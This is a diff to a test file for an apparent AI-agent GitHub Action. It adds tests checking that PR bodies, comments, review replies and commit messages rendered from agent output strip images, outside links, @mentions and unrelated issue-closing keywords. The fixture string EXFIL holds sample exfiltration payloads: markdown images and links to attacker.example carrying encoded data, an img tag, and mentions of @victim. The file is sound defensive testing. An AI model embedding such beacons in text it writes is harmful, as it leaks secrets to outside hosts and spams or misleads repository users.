@@ -6,13 +6,18 @@
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
+import { micromark } from 'micromark';
+import { gfm, gfmHtml } from 'micromark-extension-gfm';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { parseActionInputs, type ActionInputs } from '../../src/config/action-inputs.js';
 import { parseRunArgs } from '../../src/config/cli-args.js';
 import { applyProjectRules, parseRulesFile } from '../../src/config/project-rules.js';
 import { RunConfigSchema } from '../../src/config/schema.js';
 import { GitHubHelper } from '../../src/deliver/github-helper.js';
-import { attemptMarker, reviewRoundMarker } from '../../src/report/pr-body.js';
+import { commitMessage } from '../../src/deliver/branch.js';
+import { renderPlanComment } from '../../src/report/plan-comment.js';
+import { attemptMarker, renderPrBody, renderUnresolvedComment, reviewRoundMarker, type ReportFacts } from '../../src/report/pr-body.js';
+import { renderReviewReply } from '../../src/report/review-reply.js';
 import { renderJobSummary } from '../../src/report/summary.js';
 import type { EventContext } from '../../src/trigger/context.js';
 import { resolveTrigger, type TriggerDecision } from '../../src/trigger/events.js';
@@ -278,4 +283,45 @@ test('a token whose account cannot be told stops the run instead of trusting or 
   } finally {
     await new Promise((resolve) => server.close(resolve));
   }
+});
+
+describe('PR text is no exfiltration channel', () => {
+  const EXFIL = 'Fixed the rate. ![ok](https://attacker.example/p.png?d=c2VjcmV0) Details: [docs](https://attacker.example/?d=1), ' +
+    'https://attacker.example/raw?d=2 <img src="https://attacker.example/i.png"> Fixes #99, closes acme/calc#98, ' +
+    'resolves https://github.com/acme/calc/issues/97. Thanks @victim and @acme/everyone!';
+  const facts = (over: Partial<ReportFacts> = {}): ReportFacts => ({
+    status: 'resolved', request: { description: 'Issue #7: tax() fixes #96 @victim', url: 'https://github.example/acme/calc/issues/7' },
+    summary: EXFIL, reason: EXFIL, changedFiles: [{ path: 'src/calc.js', added: 1, removed: 1 }], diff: '',
+    tests: { command: 'npm test', baseline: null, final: { passed: true, exitCode: 0, counts: { passed: 1, failed: 0, skipped: 0 }, failingIds: [], output: 'ok' } },
+    integrityFindings: [], turns: 1, usage: { prompt_tokens: 1, completion_tokens: 1, cached_tokens: 0 }, costUsd: 0, durationMs: 1,
+    model: 'm', runUrl: 'https://github.example/acme/calc/actions/runs/1', fixesIssue: 7, taskKey: 'issue-7', ...over,
+  });
+  const render = (md: string) => micromark(md, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
+  const live = (html: string) => html.replace(/<code\b[^>]*>[\s\S]*?<\/code>/g, ' ').replace(/<!--[\s\S]*?-->/g, ' ');
+  const CLOSING = /\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)\b:?\s+(?:[\w.-]+\/[\w.-]+#\d+|#\d+|https?:\/\/\S*\/issues\/\d+)/gi;
+
+  test.each([
+    ['PR body', renderPrBody(facts())],
+    ['draft PR body', renderPrBody(facts({ status: 'unresolved' }))],
+    ['unresolved comment', renderUnresolvedComment(facts({ status: 'unresolved' }))],
+    ['review reply', renderReviewReply(facts({ status: 'unresolved' }), { round: 1, maxRounds: 3, reviewer: 'maintainer', branch: 'agent-fix/issue-7' })],
+    ['plan comment', renderPlanComment({
+      plan: EXFIL, sha: 'a'.repeat(40), request: facts().request, taskKey: 'issue-7', triggerPhrase: '/agent-fix', testCommand: 'npm test',
+      baseline: null, usage: '1 turn', runUrl: 'https://github.example/acme/calc/actions/runs/1',
+    })],
+  ])('%s: no image, no link but ours, no mention, and only the triggering issue closes', (_name, md) => {
+    const html = render(md);
+    expect(html).not.toMatch(/<img\b/);
+    for (const [, href] of html.matchAll(/<a href="([^"]*)"/g)) expect(href).toMatch(/^https:\/\/github\.example\/acme\/calc\/(?:issues\/7|actions\/runs\/1)$/);
+    expect(live(html)).not.toMatch(/(?<!\w)@(?:victim|acme)/);
+    const closes = [...live(html).matchAll(CLOSING)].map((m) => m[0]);
+    expect(closes.every((c) => /^Fixes #7$/.test(c))).toBe(true);
+  });
+
+  test('the commit message closes only the triggering issue and pings nobody', () => {
+    const message = commitMessage({ subject: 'Fix #7: tax() ignores the rate', body: EXFIL, fixes: 7 });
+    const closes = [...message.matchAll(CLOSING)].map((m) => m[0]);
+    expect(closes).toEqual(['Fix #7', 'Fixes #7']);
+    expect(message).not.toMatch(/(?<![\w`])@(?:victim|acme)/);
+  });
 });
